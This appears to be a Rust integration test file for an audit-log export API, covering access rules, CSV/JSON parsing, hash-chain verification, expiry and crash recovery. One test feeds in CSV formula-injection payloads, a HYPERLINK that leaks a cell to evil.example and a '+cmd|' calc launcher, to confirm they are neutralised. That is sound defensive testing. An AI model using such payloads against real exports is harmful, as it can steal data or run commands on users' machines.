//! Audit exports: rules and codes, files parsed back, the tenant chain checked offline,
//! isolation, expiry, and a restart in the middle of an export.

use crate::common;

use common::{assert_error, cli, path_str, Server};
use reqwest::Method;
use serde_json::{json, Value};

fn ingest(s: &Server, entries: Vec<Value>) {
    let (status, v) = s.admin(
        Method::POST,
        "/admin/v1/audit/logs",
        Some(json!({"entries": entries})),
    );
    assert_eq!(status, 200, "{v}");
}

fn start_export(s: &Server, key: &str, body: Value) -> String {
    let (status, v) = s.post("/v1/audit/logs/export", key, body);
    assert_eq!(status, 200, "{v}");
    assert_eq!(
        (
            v["code"].clone(),
            v["data"]["status"].clone(),
            v["data"]["download_url"].clone()
        ),
        (json!(1000), json!("processing"), Value::Null)
    );
    let id = v["data"]["export_id"]
        .as_str()
        .expect("export_id")
        .to_string();
    assert_eq!(
        uuid::Uuid::parse_str(&id).map(|u| u.hyphenated().to_string()),
        Ok(id.clone())
    );
    id
}

#[test]
fn export_rules_and_codes() {
    let s = Server::start_with(&["--export-start-delay-ms", "3000"]);
    for plan in ["free", "basic"] {
        let (_, key) = s.tenant_with_key(plan);
        assert_error(&s.post("/v1/audit/logs/export", &key, json!({})), 403, 2202);
    }
    let (tenant, key) = s.tenant_with_key("pro");
    let no_export = s.create_key(&tenant, &["audit.read"]);
    assert_error(
        &s.post("/v1/audit/logs/export", &no_export, json!({})),
        403,
        4030,
    );
    let old = (chrono::Utc::now() - chrono::Duration::days(91)).to_rfc3339();
    assert_error(
        &s.post("/v1/audit/logs/export", &key, json!({"start_time": old})),
        400,
        2201,
    );
    // (Another tenant, so this one's count of refused calls below stays as it is.) An end
    // before the window is beyond it too, whether or not a start is given.
    let (_, other) = s.tenant_with_key("pro");
    assert_error(
        &s.post("/v1/audit/logs/export", &other, json!({"end_time": old})),
        400,
        2201,
    );
    // Exactly the plan's 90 days by the client's clock is within it (the window is measured
    // when the request arrives, a moment later).
    let exactly = (chrono::Utc::now() - chrono::Duration::days(90)).to_rfc3339();
    let (status, v) = s.post(
        "/v1/audit/logs/export",
        &other,
        json!({"start_time": exactly, "end_time": chrono::Utc::now().to_rfc3339()}),
    );
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["data"]["status"], json!("processing"), "{v}");
    assert_error(
        &s.post("/v1/audit/logs/export", &key, json!({"format": "xml"})),
        400,
        4000,
    );
    let (yesterday, before) = (
        (chrono::Utc::now() - chrono::Duration::days(1)).to_rfc3339(),
        (chrono::Utc::now() - chrono::Duration::days(2)).to_rfc3339(),
    );
    assert_error(
        &s.post(
            "/v1/audit/logs/export",
            &key,
            json!({"start_time": yesterday, "end_time": before}),
        ),
        400,
        4000,
    );
    assert_error(
        &s.post("/v1/audit/logs/export", &key, json!({"formats": "csv"})),
        400,
        4000,
    );
    ingest(
        &s,
        (0..3)
            .map(|_| json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 200}))
            .collect(),
    );
    let (status, v) = s.post("/v1/audit/logs/export", &key, json!({"format": "json"}));
    assert_eq!(status, 200, "{v}");
    // Three ingested entries and the tenant's five refused calls before this one.
    assert_eq!(v["data"]["estimated_records"], json!(8), "{v}");
    assert_error(&s.post("/v1/audit/logs/export", &key, json!({})), 409, 2203);
    // Inactive subscriptions close exports too.
    s.admin(
        Method::PATCH,
        &format!("/admin/v1/tenants/{tenant}"),
        Some(json!({"subscription_active": false})),
    );
    assert_error(&s.post("/v1/audit/logs/export", &key, json!({})), 403, 2200);
    // An empty body is a valid request with every default (here: refused only as in progress).
    s.admin(
        Method::PATCH,
        &format!("/admin/v1/tenants/{tenant}"),
        Some(json!({"subscription_active": true})),
    );
    let r = s
        .raw()
        .post(format!("{}/v1/audit/logs/export", s.url))
        .bearer_auth(&key)
        .send()
        .expect("send");
    assert_eq!(r.status().as_u16(), 409);
}

#[test]
fn csv_and_json_exports_parse_back_and_verify() {
    let s = Server::start();
    let (tenant, key) = s.tenant_with_key("business");
    let tricky = "a, \"quoted\" value\nwith a newline";
    ingest(
        &s,
        vec![
            json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 200, "error_msg": tricky, "metadata": {"note": tricky}, "tokens": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}}),
            json!({"tenant_id": tenant, "action": "rag.query", "http_status": 502, "user_agent": "ua, with comma", "duration": 12.25}),
            json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 200}),
        ],
    );
    let (other_tenant, other) = s.tenant_with_key("business");
    ingest(
        &s,
        vec![json!({"tenant_id": other_tenant, "action": "gateway.chat", "http_status": 200})],
    );

    let csv_id = start_export(&s, &key, json!({}));
    let st = s.wait_export_status(&key, &csv_id, "completed");
    assert_eq!(st["records"], json!(3));
    assert_eq!(st["format"], json!("csv"));
    assert_eq!(
        st["download_url"],
        json!(format!("/v1/audit/logs/export/{csv_id}/download"))
    );
    assert!(
        st["expires_at"].as_str().is_some()
            && st["completed_at"].as_str().is_some()
            && st["error"].is_null(),
        "{st}"
    );

    // Other tenants see nothing of it.
    assert_error(
        &s.get(&format!("/v1/audit/logs/export/{csv_id}"), &other),
        404,
        4040,
    );
    assert_eq!(s.download_export(&other, &csv_id).0, 404);

    let (status, ct, cd, bytes) = s.download_export(&key, &csv_id);
    assert_eq!(status, 200);
    assert_eq!(ct, "text/csv; charset=utf-8");
    assert_eq!(
        cd,
        format!("attachment; filename=\"audit-export-{csv_id}.csv\"")
    );
    assert_eq!(st["file_size"], json!(bytes.len()));
    assert_eq!(
        st["file_blake3"],
        json!(blake3::hash(&bytes).to_hex().to_string())
    );
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers: Vec<String> = reader
        .headers()
        .expect("headers")
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(headers.first().map(String::as_str), Some("id"));
    assert_eq!(headers.last().map(String::as_str), Some("hash"));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 3);
    let col = |name: &str| headers.iter().position(|h| h == name).expect("column");
    assert_eq!(&rows[0][col("error_msg")], tricky);
    assert_eq!(
        serde_json::from_str::<Value>(&rows[0][col("metadata")]).expect("json"),
        json!({"note": tricky})
    );
    assert_eq!(&rows[1][col("user_agent")], "ua, with comma");
    assert_eq!(&rows[1][col("http_status")], "502");
    assert_eq!(&rows[1][col("chain_index")], "2");

    let json_id = start_export(&s, &key, json!({"format": "json"}));
    s.wait_export_status(&key, &json_id, "completed");
    let (status, ct, cd, jbytes) = s.download_export(&key, &json_id);
    assert_eq!((status, ct.as_str()), (200, "application/json"));
    assert!(cd.ends_with(".json\""), "{cd}");
    let arr: Vec<Value> = serde_json::from_slice(&jbytes).expect("json array");
    // The second export also holds the first export's own audit entries (seq before it).
    assert!(arr.len() > 3, "{}", arr.len());
    assert_eq!(arr[0]["error_msg"], json!(tricky));
    assert_eq!(arr[0]["chain_index"], json!(1));
    assert_eq!(arr[1]["prev_hash"], arr[0]["hash"]);

    // verify --export: clean files pass; a modified, removed or reordered row is named.
    let dir = tempfile::tempdir().expect("tempdir");
    let write = |name: &str, data: &[u8]| {
        let p = dir.path().join(name);
        std::fs::write(&p, data).expect("write");
        p
    };
    let csv_manifest = write("csv.manifest.json", &manifest(&s, &key, &csv_id));
    let json_manifest = write("json.manifest.json", &manifest(&s, &key, &json_id));
    let run = |p: &std::path::Path, m: &std::path::Path| {
        let (code, out, err) = cli(
            &[
                "verify",
                "--export",
                path_str(p),
                "--manifest",
                path_str(m),
                "--json",
            ],
            &[],
        );
        let v: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("{out}{err}"));
        (code, v)
    };
    let (code, v) = run(&write("clean.csv", &bytes), &csv_manifest);
    assert_eq!(code, 0, "{v}");
    let (code, v) = run(&write("clean.json", &jbytes), &json_manifest);
    assert_eq!(code, 0, "{v}");
    // The row's own failure, after what the manifest says of the file as a whole.
    let row_failure = |v: &Value| {
        v["report"]["failures"]
            .as_array()
            .expect("failures")
            .iter()
            .find(|f| !f["row"].is_null() && f["kind"] != json!("row_count_mismatch"))
            .map(|f| (f["row"].clone(), f["kind"].clone()))
    };
    let text = String::from_utf8(bytes.clone()).expect("utf8");
    // A clear field: a sealed entry's chain hash (rule v3) leaves its personal fields to the
    // file digest the manifest signs.
    let modified = text.replacen("rag.query", "rag.querY", 1);
    let (code, v) = run(&write("modified.csv", modified.as_bytes()), &csv_manifest);
    assert_eq!(code, 1);
    assert_eq!(v["report"]["failures"][0]["kind"], json!("digest_mismatch"));
    assert_eq!(row_failure(&v), Some((json!(2), json!("hash_mismatch"))));

    let mut removed = arr.clone();
    removed.remove(1);
    let (code, v) = run(
        &write("removed.json", &serde_json::to_vec(&removed).expect("json")),
        &json_manifest,
    );
    assert_eq!(code, 1);
    assert_eq!(row_failure(&v), Some((json!(2), json!("missing"))));

    let mut reordered = arr.clone();
    reordered.swap(0, 2);
    let (code, v) = run(
        &write(
            "reordered.json",
            &serde_json::to_vec(&reordered).expect("json"),
        ),
        &json_manifest,
    );
    assert_eq!(code, 1);
    assert!(
        v["report"]["failures"]
            .as_array()
            .expect("failures")
            .iter()
            .any(|f| f["kind"] == json!("out_of_order")),
        "{v}"
    );

    // A pro export carries no chain: held to its manifest it verifies (rows and digest);
    // without one there is nothing to check it against (exit 2), it does not pass.
    let (pro_tenant, pro_key) = s.tenant_with_key("pro");
    ingest(
        &s,
        vec![json!({"tenant_id": pro_tenant, "action": "gateway.chat", "http_status": 200})],
    );
    let pro_id = start_export(&s, &pro_key, json!({"format": "json"}));
    s.wait_export_status(&pro_key, &pro_id, "completed");
    let (_, _, _, pbytes) = s.download_export(&pro_key, &pro_id);
    let pro_file = write("pro.json", &pbytes);
    let (code, v) = run(
        &pro_file,
        &write("pro.manifest.json", &manifest(&s, &pro_key, &pro_id)),
    );
    assert_eq!(code, 0, "{v}");
    let (code, _, err) = cli(
        &["verify", "--export", path_str(&pro_file), "--chain-only"],
        &[],
    );
    assert_eq!(code, 2, "{err}");
}

/// The export's signed manifest, as served.
fn manifest(s: &Server, key: &str, id: &str) -> Vec<u8> {
    crate::export_verify::download_manifest(s, key, id)
}

/// Cells a spreadsheet would run as a formula (from a User-Agent, ingested fields, an error
/// message) are written with a leading `'` in CSV, read back exactly by `verify`, and left as
/// they are in JSON.
#[test]
fn csv_cells_that_would_run_as_formulas_are_neutralised_and_the_export_still_verifies() {
    let s = Server::start();
    let (tenant, key) = s.tenant_with_key("business");
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    let hostile = json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 500,
        "model_id": "+cmd|' /C calc'!A0", "project_id": "-2+3", "gateway_id": "@SUM(A1:A9)",
        "error_msg": "\tTAB", "user_agent": "'quoted"});
    ingest(&s, vec![hostile]);
    // A request whose own User-Agent is a formula: the service records it.
    let r = s
        .raw()
        .get(format!("{}/v1/memories", s.url))
        .bearer_auth(&key)
        .header("user-agent", hyperlink)
        .send()
        .expect("send");
    assert_eq!(r.status().as_u16(), 200);

    let id = start_export(&s, &key, json!({"format": "csv"}));
    s.wait_export_status(&key, &id, "completed");
    let (_, _, _, bytes) = s.download_export(&key, &id);
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().expect("headers").clone();
    let col = |name: &str| headers.iter().position(|h| h == name).expect("column");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    assert_eq!(&rows[0][col("model_id")], "'+cmd|' /C calc'!A0");
    assert_eq!(&rows[0][col("project_id")], "'-2+3");
    assert_eq!(&rows[0][col("gateway_id")], "'@SUM(A1:A9)");
    assert_eq!(&rows[0][col("error_msg")], "'\tTAB");
    assert_eq!(&rows[0][col("user_agent")], "''quoted");
    assert_eq!(&rows[0][col("http_status")], "500");
    assert_eq!(&rows[1][col("user_agent")], format!("'{hyperlink}"));
    // No cell of any row starts a formula.
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
    // verify undoes the guard before hashing: the genuine file verifies bit for bit.
    let dir = tempfile::tempdir().expect("tempdir");
    let (f, m) = (dir.path().join("e.csv"), dir.path().join("m.json"));
    std::fs::write(&f, &bytes).expect("write");
    std::fs::write(&m, manifest(&s, &key, &id)).expect("write");
    let (code, out, err) = cli(
        &[
            "verify",
            "--export",
            path_str(&f),
            "--manifest",
            path_str(&m),
        ],
        &[],
    );
    assert_eq!(code, 0, "{out}{err}");

    // JSON exports are data: the values as they are.
    let jid = start_export(&s, &key, json!({"format": "json"}));
    s.wait_export_status(&key, &jid, "completed");
    let (_, _, _, jbytes) = s.download_export(&key, &jid);
    let arr: Vec<Value> = serde_json::from_slice(&jbytes).expect("json");
    assert_eq!(arr[0]["model_id"], json!("+cmd|' /C calc'!A0"));
    assert_eq!(arr[0]["user_agent"], json!("'quoted"));
    assert_eq!(arr[1]["user_agent"], json!(hyperlink));
}

#[test]
fn exports_expire() {
    let s = Server::start_with(&["--export-ttl-secs", "1"]);
    let (_, key) = s.tenant_with_key("pro");
    let id = start_export(&s, &key, json!({}));
    s.wait_export_status(&key, &id, "completed");
    let st = s.wait_export_status(&key, &id, "expired");
    assert_eq!(st["download_url"], Value::Null);
    let (status, _, _, body) = s.download_export(&key, &id);
    assert_eq!(status, 410);
    let v: Value = serde_json::from_slice(&body).expect("json");
    assert_eq!(v["code"], json!(4100));
}

#[test]
fn an_export_interrupted_by_a_crash_completes_after_restart() {
    let mut s = Server::start_with(&["--export-start-delay-ms", "600000"]);
    let (tenant, key) = s.tenant_with_key("business");
    ingest(&s, (0..50).map(|i| json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 200, "metadata": {"i": i}})).collect());
    let id = start_export(&s, &key, json!({}));
    // Entries logged after the request are not part of it.
    ingest(
        &s,
        (0..5)
            .map(|_| json!({"tenant_id": tenant, "action": "gateway.chat", "http_status": 200}))
            .collect(),
    );
    assert_eq!(
        s.get(&format!("/v1/audit/logs/export/{id}"), &key).1["data"]["status"],
        json!("processing")
    );
    s.kill();
    s.extra.clear();
    s.spawn();
    let st = s.wait_export_status(&key, &id, "completed");
    assert_eq!(st["records"], json!(50), "{st}");
    let (status, _, _, bytes) = s.download_export(&key, &id);
    assert_eq!(status, 200);
    assert_eq!(
        csv::Reader::from_reader(bytes.as_slice()).records().count(),
        50
    );
}

/// Regression: a request with an empty User-Agent header was recorded with `user_agent: ""`,
/// which a CSV export writes as an empty cell and `verify --export` reads back as null, so the
/// row's chain hash no longer matched: a genuine export was reported as tampered.
#[test]
fn an_empty_user_agent_header_still_exports_a_verifiable_csv() {
    let s = Server::start();
    let (_, key) = s.tenant_with_key("business");
    let resp = s
        .raw()
        .get(format!("{}/v1/memories", s.url))
        .bearer_auth(&key)
        .header("user-agent", "")
        .send()
        .expect("send");
    assert_eq!(resp.status().as_u16(), 200);

    let id = start_export(&s, &key, json!({"format": "csv"}));
    s.wait_export_status(&key, &id, "completed");
    let (status, _, _, bytes) = s.download_export(&key, &id);
    assert_eq!(status, 200);
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("export.csv");
    std::fs::write(&p, &bytes).expect("write");
    let m = dir.path().join("manifest.json");
    std::fs::write(&m, manifest(&s, &key, &id)).expect("write");
    let (code, out, err) = cli(
        &[
            "verify",
            "--export",
            path_str(&p),
            "--manifest",
            path_str(&m),
        ],
        &[],
    );
    assert_eq!(code, 0, "{out}{err}");
    let (_, v) = s.get("/v1/audit/logs?action=memory.list", &key);
    assert_eq!(v["data"]["logs"][0]["user_agent"], Value::Null, "{v}");
}

/// Regression, found by the CSV property in tests/it/properties.rs: `verify --export` parses
/// numbers with serde_json, whose default float parsing may be a unit in the last place off;
/// this value came back as ...604e104, and the row's chain hash (over the value the list shows)
/// no longer matched. Exact with serde_json's `float_roundtrip`.
#[test]
fn exported_floats_read_back_exactly() {
    let x = 1.2080109125617605e104_f64;
    let text = serde_json::to_string(&x).expect("json");
    assert_eq!(serde_json::from_str::<f64>(&text).expect("parse"), x);
    assert_eq!(
        auditmem::export::rows::uncell("duration", &text),
        Ok(Value::from(x))
    );
}
